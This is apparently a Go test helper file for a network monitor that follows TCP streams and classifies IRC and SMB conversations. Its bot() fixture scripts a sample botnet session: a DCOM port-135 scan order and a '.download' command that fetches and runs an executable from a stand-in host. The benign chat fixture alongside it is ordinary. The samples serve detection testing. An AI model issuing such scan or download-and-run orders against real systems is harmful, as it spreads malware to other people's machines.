package stream

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"time"

	"pgregory.net/rapid"

	"github.com/wormwatch/wormwatch/internal/irc"
	"github.com/wormwatch/wormwatch/internal/packet"
	"github.com/wormwatch/wormwatch/internal/packettest"
	"github.com/wormwatch/wormwatch/internal/smb"
)

var (
	home    = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("172.16.0.0/12"), netip.MustParsePrefix("192.168.0.0/16"), netip.MustParsePrefix("fd00::/8")}
	macHost = [6]byte{2, 0, 0, 0, 0, 1}
	macGate = [6]byte{2, 0, 0, 0, 0, 0xfe}
)

func testSite() Site {
	return Site{
		Home: func(a packet.Addr) bool {
			return slices.ContainsFunc(home, func(p netip.Prefix) bool { return p.Contains(a.Netip()) })
		},
		Realm:  func(ev *packet.Event) uint32 { return ev.Tunnel },
		SMB:    func(port uint16) bool { return port == 139 || port == 445 },
		IRCTLS: func(port uint16) bool { return port == 6697 },
	}
}

// told is what a Talk said, kept beyond the next call.
type told struct {
	Talk
	sum      summary
	previous string // nick
}

// summary is what a conversation came to.
type summary struct {
	proto    Proto
	facts    irc.Facts
	nick     string
	user     string
	real     string
	host     string
	nicks    int
	channels string
	orders   string
	knock    smb.Knock
}

func summarise(t *Talk) summary {
	s := summary{proto: t.Proto}
	if t.IRC != nil {
		i := t.IRC
		orders := i.Orders()
		slices.Sort(orders)
		s.facts, s.nick, s.user, s.real, s.host, s.nicks = i.Facts(), i.Nick(), i.User(), i.Real(), i.ServerName(), i.Nicks()
		s.channels, s.orders = fmt.Sprint(i.Channels()), strings.Join(orders, " ")
	}
	if t.SMB != nil {
		s.knock = t.SMB.Knock()
	}
	return s
}

// wire feeds a follower and writes down what it tells.
type wire struct {
	tb  rapid.TB
	f   *Follower
	now packet.Time
	all []told
	out []Talk
}

func newWire(tb rapid.TB, tune ...func(*Config)) *wire {
	c := DefaultConfig()
	c.Openings, c.Followed = 1024, 64
	for _, f := range tune {
		f(&c)
	}
	if ps := c.Validate(); len(ps) > 0 {
		tb.Fatalf("configuration: %v", ps)
	}
	return &wire{tb: tb, f: New(c, testSite(), 1), now: packettest.Start}
}

func (w *wire) take(out []Talk) {
	for i := range out {
		l := told{Talk: out[i], sum: summarise(&out[i])}
		if l.IRC != nil {
			l.previous = l.IRC.PreviousNick()
		}
		w.all = append(w.all, l)
	}
	w.out = out[:0]
}

// see lets a segment pass, a millisecond after the one before.
func (w *wire) see(s seg) {
	w.now = w.now.Add(time.Millisecond)
	s.ev.Time = w.now
	w.take(w.f.Observe(&s.ev, s.data, w.out))
}

func (w *wire) wait(d time.Duration) {
	w.now = w.now.Add(d)
	w.take(w.f.Advance(w.now, w.out))
}

// tidy has all openings looked at for old ones, as new ones would have it.
func (w *wire) tidy() {
	for range w.f.openings.Cap() {
		w.f.tidy()
	}
}

// last returns what was told last, and fails where nothing was.
func (w *wire) last() *told {
	w.tb.Helper()
	if len(w.all) == 0 {
		w.tb.Fatal("nothing was told")
	}
	return &w.all[len(w.all)-1]
}

// ends returns how many ends were told.
func (w *wire) ends() (n int) {
	for i := range w.all {
		if w.all[i].End {
			n++
		}
	}
	return n
}

// seg is a segment on the wire.
type seg struct {
	ev   packet.Event
	data []byte
}

// conn makes the segments of a connection.
type conn struct {
	ends  [2]packet.Addr
	ports [2]uint16
	isn   [2]uint32
	said  [2]uint32 // octets so far
	realm uint32
}

func dial(client, server string, cport, sport uint16) *conn {
	return &conn{
		ends:  [2]packet.Addr{packet.AddrFrom(netip.MustParseAddr(client)), packet.AddrFrom(netip.MustParseAddr(server))},
		ports: [2]uint16{cport, sport},
		isn:   [2]uint32{0xffffff00, 0x7fffffff}, // both wrap, one of them its sign
	}
}

// at returns a segment that starts off octets behind the start of a side's stream.
func (c *conn) at(d side, off int, flags uint8, data string) seg {
	ev := packet.Event{
		Kind: packet.KindTCP, Proto: packet.ProtoTCP, TCPFlags: flags, Tunnel: c.realm,
		Src: c.ends[d], Dst: c.ends[1-d], SrcPort: c.ports[d], DstPort: c.ports[1-d],
		Seq: c.isn[d] + 1 + uint32(off), Payload: uint16(len(data)), Held: uint16(len(data)), SrcMAC: macHost,
	}
	if d == server {
		ev.SrcMAC = macGate
	}
	if flags&packet.SYN != 0 {
		ev.Seq--
	}
	return seg{ev, []byte(data)}
}

// says returns the next segment of a side.
func (c *conn) says(d side, data string) seg {
	s := c.at(d, int(c.said[d]), packet.ACK|packet.PSH, data)
	c.said[d] += uint32(len(data))
	return s
}

func (c *conn) fin(d side) seg { return c.at(d, int(c.said[d]), packet.ACK|packet.FIN, "") }

func (c *conn) rst(d side) seg { return c.at(d, int(c.said[d]), packet.RST, "") }

// open lets the handshake pass.
func (w *wire) open(c *conn) {
	w.see(c.at(client, 0, packet.SYN, ""))
	w.see(c.at(server, 0, packet.SYN|packet.ACK, ""))
	w.see(c.at(client, 0, packet.ACK, ""))
}

// turn is what one side says before the other one does.
type turn struct {
	from side
	text string
}

func up(text string) turn { return turn{client, text} }

func down(text string) turn { return turn{server, text} }

// talk lets a conversation pass in order, a segment a turn.
func (w *wire) talk(c *conn, turns ...turn) {
	for _, t := range turns {
		for text := t.text; text != ""; {
			n := min(len(text), 1460)
			w.see(c.says(t.from, text[:n]))
			text = text[n:]
		}
	}
}

const botServer = "198.51.100.7"

// bot is a bot that gets its orders far down the server's stream.
func bot() []turn {
	motd := ""
	for i := range 90 {
		motd += fmt.Sprintf(":irc.example.net 372 DEU|483920 :- line %02d of a message of the day\r\n", i)
	}
	return []turn{
		down("NOTICE AUTH :*** Looking up your hostname...\r\n"),
		up("PASS l3tme1n\r\nNICK DEU|483920\r\nUSER xkqzuv 0 0 :DEU|483920\r\n"),
		down(":irc.example.net 001 DEU|483920 :Welcome\r\n" + motd + ":irc.example.net 376 DEU|483920 :End of /MOTD command.\r\n"),
		up("USERHOST DEU|483920\r\nMODE DEU|483920 +x\r\nJOIN #sl0w3r l03dx\r\n"),
		down(":DEU|483920!~xkqzuv@10.0.0.1 JOIN :#sl0w3r\r\n:irc.example.net 332 DEU|483920 #sl0w3r :.advscan dcom135 200 3 0 -r -s\r\n"),
		up("PRIVMSG #sl0w3r :[SCAN]: Random Port Scan started on 10.0.x.x:135 with a delay of 3 seconds for 0 minutes using 200 threads.\r\n"),
		down("PING :irc.example.net\r\n"),
		up("PONG irc.example.net\r\n"),
		down(":op!o@example.org PRIVMSG #sl0w3r :.download http://example.org/x.exe c:\\x.exe 1\r\n"),
	}
}

// person is somebody who chats.
func person() []turn {
	return []turn{
		up("CAP LS 302\r\nNICK anna\r\nUSER anna 0 * :Anna Example\r\n"),
		down(":irc.example.net CAP * LS :multi-prefix\r\n"),
		up("CAP END\r\n"),
		down(":irc.example.net 001 anna :Welcome\r\n"),
		up("JOIN #garden\r\n"),
		down(":anna!~anna@10.0.0.1 JOIN #garden\r\n:irc.example.net 353 anna = #garden :anna bert\r\n"),
		up("PRIVMSG #garden :hello\r\n"),
		down(":bert!b@h.example PRIVMSG #garden :hello Anna\r\n"),
	}
}

// heard returns what the conversation comes to when all goes well.
func heardInOrder(tb rapid.TB, turns []turn) summary {
	tb.Helper()
	w := newWire(tb)
	c := dial("10.0.0.1", botServer, 1049, 6667)
	w.open(c)
	w.talk(c, turns...)
	return w.last().sum
}
